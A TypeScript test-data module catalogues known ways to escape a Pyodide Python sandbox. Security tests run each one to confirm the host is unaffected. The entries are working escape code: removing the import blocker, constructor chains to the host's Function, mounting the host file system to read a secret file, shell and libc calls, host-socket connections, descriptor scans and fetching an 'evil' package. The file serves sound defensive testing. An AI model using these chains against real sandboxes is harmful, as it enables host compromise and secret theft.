/**
 * Known ways out of a Python sandbox built on Pyodide, as data: the security tests run every
 * entry through `execute_python` and check that none has an effect on the host. Add an entry
 * when a new route is found; the tests pick it up.
 *
 * Each entry's code uses four placeholders, which {@link renderEscapeVector} fills in:
 * - `MARKER`: a host path (a Python string literal) that must not exist after the run;
 * - `SECRET`: a host file (a Python string literal) whose content must not appear in the result;
 * - `URL`: a loopback URL (a Python string literal) of a server that must receive no request;
 * - `SOCKET`: the path of a host Unix socket (a Python string literal) that must receive no
 *   connection.
 *
 * Many entries start with {@link STRIP_SECOND_LAYER}: they remove the bridge blocker first, to
 * show that the outer layers (process, network namespace, permission model, no code
 * generation) hold on their own.
 *
 * @module
 */

/** One known escape route. */
export interface PythonEscapeVector {
  /** Stable id, used in test titles. */
  id: string;
  /** What the code tries, in a sentence. */
  route: string;
  /** The layer expected to stop it (documentation; the tests check the effect, not the layer). */
  stoppedBy: string;
  /** Python source with `MARKER`, `SECRET` and `URL` placeholders. */
  code: string;
}

/** Python that removes the sandbox's second layer (the bridge blocker) before an attempt. */
export const STRIP_SECOND_LAYER = [
  'import sys',
  "sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != 'BridgeBlocker']",
  'for _k in [k for k, v in list(sys.modules.items()) if v is None]:',
  '    del sys.modules[_k]',
  '',
].join('\n');

/**
 * Python that reaches `pyodide_js` without touching the blocker: Pyodide's own import hook
 * keeps the JavaScript modules it serves (found in an attack on this sandbox).
 */
export const REACH_BRIDGE_THROUGH_FINDER = [
  'import sys, asyncio, pyodide',
  "pyodide_js = [f for f in sys.meta_path if type(f).__name__ == 'JsFinder'][0].jsproxies['pyodide_js']",
  'to_js, create_proxy = pyodide.ffi.to_js, pyodide.ffi.create_proxy',
  'O = pyodide_js.constructor',
  'def obj(**kw): return to_js(kw, dict_converter=O.fromEntries)',
  '',
].join('\n');

/** JavaScript that writes the marker through Node's `fs`, for routes that reach a JS evaluator. */
const JS_WRITE_MARKER = "return import('node:fs').then((fs) => fs.writeFileSync(MARKER_JS, 'escaped'))";

/** The catalogue. */
export const PYTHON_ESCAPE_VECTORS: readonly PythonEscapeVector[] = Object.freeze([
  {
    id: 'open-host-files',
    route: 'open() on a host path: read a secret file, write the marker',
    stoppedBy: "Pyodide's virtual file system (host files are not mounted)",
    code: ['try:', '    print(open(SECRET).read())', 'except Exception as e:', '    print("read refused:", e)', 'import os', 'os.makedirs(os.path.dirname(MARKER), exist_ok=True)', "open(MARKER, 'w').write('escaped')"].join('\n'),
  },
  {
    id: 'os-system',
    route: 'os.system() running a shell command',
    stoppedBy: 'no processes in WebAssembly; Node permission model (no child processes)',
    code: "import os\nos.system('touch ' + MARKER)",
  },
  {
    id: 'subprocess-run',
    route: 'subprocess.run() of a host program',
    stoppedBy: 'no processes in WebAssembly',
    code: "import subprocess\nsubprocess.run(['touch', MARKER])",
  },
  {
    id: 'os-fork-exec',
    route: 'os.fork() / os.execv() / os.posix_spawn()',
    stoppedBy: 'no processes in WebAssembly',
    code: ["import os", "for f in ('fork', 'posix_spawn', 'execv'):", "    try:", "        fn = getattr(os, f)", "        fn() if f == 'fork' else fn('/usr/bin/touch', ['touch', MARKER]) if f == 'execv' else fn('/usr/bin/touch', ['touch', MARKER], {})", "    except Exception as e:", "        print(f, 'refused:', type(e).__name__)"].join('\n'),
  },
  {
    id: 'ctypes-libc',
    route: 'ctypes loading the C library and calling system()',
    stoppedBy: 'no host C library in WebAssembly; no native addons under the permission model',
    code: "import ctypes, ctypes.util\nlibc = ctypes.CDLL(ctypes.util.find_library('c'))\nlibc.system(('touch ' + MARKER).encode())",
  },
  {
    id: 'subclass-walk',
    route: "walking object.__subclasses__() to a class that runs programs (Popen, _wrap_close)",
    stoppedBy: 'no processes in WebAssembly',
    code: [
      'hits = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ in ("Popen", "_wrap_close")]',
      'print("found", [c.__name__ for c in hits])',
      'for c in hits:',
      '    try:',
      '        c.__init__.__globals__["system"]("touch " + MARKER) if "system" in c.__init__.__globals__ else c(["touch", MARKER])',
      '    except Exception as e:',
      '        print(c.__name__, "refused:", type(e).__name__, e)',
    ].join('\n'),
  },
  {
    id: 'import-js-process',
    route: "Pyodide's `js` module reaching Node's process and its fs module",
    stoppedBy: 'bridge closed (jsglobals empty, `js` refused); process removed from the global scope',
    code: "import js\njs.process.mainModule.require('fs').writeFileSync(MARKER, 'escaped')",
  },
  {
    id: 'js-module-without-blocker',
    route: 'strip the import blocker, then import js and look for process',
    stoppedBy: 'jsglobals empty; process removed from the global scope; permission model',
    code: `${STRIP_SECOND_LAYER}import js\nprint(dir(js))\njs.process.binding('fs')`,
  },
  {
    id: 'pyodide-js-constructor-chain',
    route: "pyodide_js object -> constructor -> constructor = the host's Function -> import('node:fs') -> write",
    stoppedBy: 'code generation from strings disabled; permission model (no writes)',
    code: `${STRIP_SECOND_LAYER}import pyodide_js\nF = pyodide_js.constructor.constructor\nMARKER_JS = MARKER\nawait F("MARKER_JS", ${JSON.stringify(JS_WRITE_MARKER)})(MARKER)`,
  },
  {
    id: 'run-js',
    route: 'pyodide.code.run_js evaluating JavaScript that writes a file',
    stoppedBy: 'bridge closed; no eval in jsglobals; code generation disabled; permission model',
    code: `${STRIP_SECOND_LAYER}from pyodide.code import run_js\nawait run_js("import('node:fs').then((fs) => fs.writeFileSync(" + repr(MARKER) + ", 'escaped'))")`,
  },
  {
    id: 'async-function-constructor',
    route: "a JS function's constructor chain to AsyncFunction, which compiles code too",
    stoppedBy: 'code generation from strings disabled',
    code: `${STRIP_SECOND_LAYER}import pyodide_js\nAF = pyodide_js.loadPackage.constructor\nprint(AF)\nawait AF("m", "const fs = await import('node:fs'); fs.writeFileSync(m, 'escaped')")(MARKER)`,
  },
  {
    id: 'mount-host-fs',
    route: 'pyodide_js.mountNodeFS mounting the host root, then writing through Python',
    stoppedBy: 'permission model (reads limited to the Pyodide package, no writes)',
    code: `${STRIP_SECOND_LAYER}import pyodide_js, os\npyodide_js.mountNodeFS('/host', '/')\ntry:\n    print(open('/host' + SECRET).read())\nexcept Exception as e:\n    print('read refused:', e)\nopen('/host' + MARKER, 'w').write('escaped')`,
  },
  {
    id: 'emscripten-fs-nodefs',
    route: 'the Emscripten FS object mounting NODEFS directly',
    stoppedBy: 'permission model',
    code: `${STRIP_SECOND_LAYER}import pyodide_js\nfrom pyodide.ffi import to_js\nFS = pyodide_js.FS\nFS.mkdir('/h')\nopts = to_js({'root': '/'}, dict_converter=pyodide_js.constructor.fromEntries)\nFS.mount(FS.filesystems.NODEFS, opts, '/h')\nopen('/h' + MARKER, 'w').write('escaped')`,
  },
  {
    id: 'network-fetch',
    route: 'reaching a loopback HTTP server (pyfetch, urllib, raw sockets)',
    stoppedBy: 'network namespace; fetch removed from the global scope; no sockets in WebAssembly',
    code: [
      'import socket, urllib.request',
      'for attempt in ("urllib", "socket"):',
      '    try:',
      '        if attempt == "urllib":',
      '            urllib.request.urlopen(URL, timeout=2).read()',
      '        else:',
      '            host, port = URL.split("//")[1].split("/")[0].split(":")',
      '            s = socket.create_connection((host, int(port)), timeout=2)',
      '            s.sendall(b"GET /socket HTTP/1.0\\r\\n\\r\\n")',
      '    except Exception as e:',
      '        print(attempt, "refused:", type(e).__name__)',
      STRIP_SECOND_LAYER,
      'from pyodide.http import pyfetch',
      'await pyfetch(URL)',
    ].join('\n'),
  },
  {
    id: 'load-package-from-url',
    route: "pyodide_js.loadPackage fetching a wheel from a URL (network and host file writes)",
    stoppedBy: 'network namespace; fetch removed; permission model',
    code: `${STRIP_SECOND_LAYER}import pyodide_js\nawait pyodide_js.loadPackage(URL + '/evil-1.0-py3-none-any.whl')`,
  },
  {
    id: 'finder-bridge-mount',
    route: "pyodide_js taken from Pyodide's own import hook (JsFinder.jsproxies), blocker untouched, then the host root mounted with NODEFS",
    stoppedBy: 'bubblewrap (no host files in view); permission model',
    code: `${REACH_BRIDGE_THROUGH_FINDER}pyodide_js.mountNodeFS('/host', '/')\ntry:\n    print(open('/host' + SECRET).read())\nexcept Exception as e:\n    print('read refused:', e)\nopen('/host' + MARKER, 'w').write('escaped')`,
  },
  {
    id: 'unix-socket-to-host',
    route: "Node's net module through Pyodide's socket layer: connect to a host Unix socket, and bind a socket file at a host path",
    stoppedBy: 'bubblewrap (host paths are not in its file system); not the network namespace, not the permission model',
    code: [
      REACH_BRIDGE_THROUGH_FINDER + 'import socket',
      'await pyodide_js.useNodeSockFS()',
      's = socket.socket()',
      'sk = pyodide_js.FS.getStream(s.fileno()).node.sock',
      "sk.sock_ops.connectAsync(sk, '127.0.0.1', 9)",
      'w = sk.wcgSocket',
      "O.getOwnPropertyDescriptor(w.closed.constructor.prototype, 'catch').value.call(w.closed, create_proxy(lambda *a: None))",
      'NetSocket = w._socket.constructor',
      "c = NetSocket.new(); c.on('error', create_proxy(lambda *a: None)); c.setEncoding('utf8')",
      'c.connect(obj(path=SOCKET))',
      "c.write('hello from the sandbox\\n')",
      'for i in range(10):',
      '    await asyncio.sleep(0.1)',
      '    r = c.read()',
      '    if isinstance(r, str):',
      "        print('the host socket replied:', repr(r)); break",
      "print('bind:', c._handle.constructor.new(1).bind(MARKER))",
    ].join('\n'),
  },
  {
    id: 'write-every-descriptor',
    route: "fs.writeSync on every descriptor number (the protocol channel, and files the host inherited), through NODEFS stream operations",
    stoppedBy: 'the parent distrusts the channel (a bad line kills the interpreter, not the host); inherited descriptors are closed before the child starts',
    code: [
      REACH_BRIDGE_THROUGH_FINDER + 'M = pyodide_js._module',
      "msg = b'escaped: not a protocol message\\n'",
      'buf = M.HEAPU8.constructor.new(len(msg)); buf.assign(msg)',
      'wrote = []',
      'for fd in range(3, 256):',
      '    try:',
      '        M.NODEFS.stream_ops.write(obj(nfd=fd), buf, 0, len(msg), None)',
      '        wrote.append(fd)',
      '    except Exception:',
      '        pass',
      "print('wrote to descriptors', wrote)",
      'M.NODEFS.stream_ops.write(obj(nfd=1), buf, 0, len(msg), None)',
    ].join('\n'),
  },
  {
    id: 'read-every-descriptor',
    route: 'fs.readSync on every descriptor number, looking for a host file left open',
    stoppedBy: 'inherited descriptors are closed before the child starts',
    code: [
      REACH_BRIDGE_THROUGH_FINDER + 'M = pyodide_js._module',
      'buf = M.HEAPU8.constructor.new(4096)',
      'for fd in range(3, 256):',
      '    try:',
      '        n = M.NODEFS.stream_ops.read(obj(nfd=fd), buf, 0, 4096, 0)',
      '        if n: print(fd, bytes(buf.to_py()[:n]))',
      '    except Exception:',
      '        pass',
    ].join('\n'),
  },
]);

/** Fill a vector's placeholders; each value becomes a Python string literal. */
export function renderEscapeVector(vector: PythonEscapeVector, values: { marker: string; secret: string; url: string; socket?: string }): string {
  const literal = (value: string) => JSON.stringify(value);
  return `MARKER = ${literal(values.marker)}\nSECRET = ${literal(values.secret)}\nURL = ${literal(values.url)}\nSOCKET = ${literal(values.socket ?? '/nonexistent.sock')}\n${vector.code}`;
}
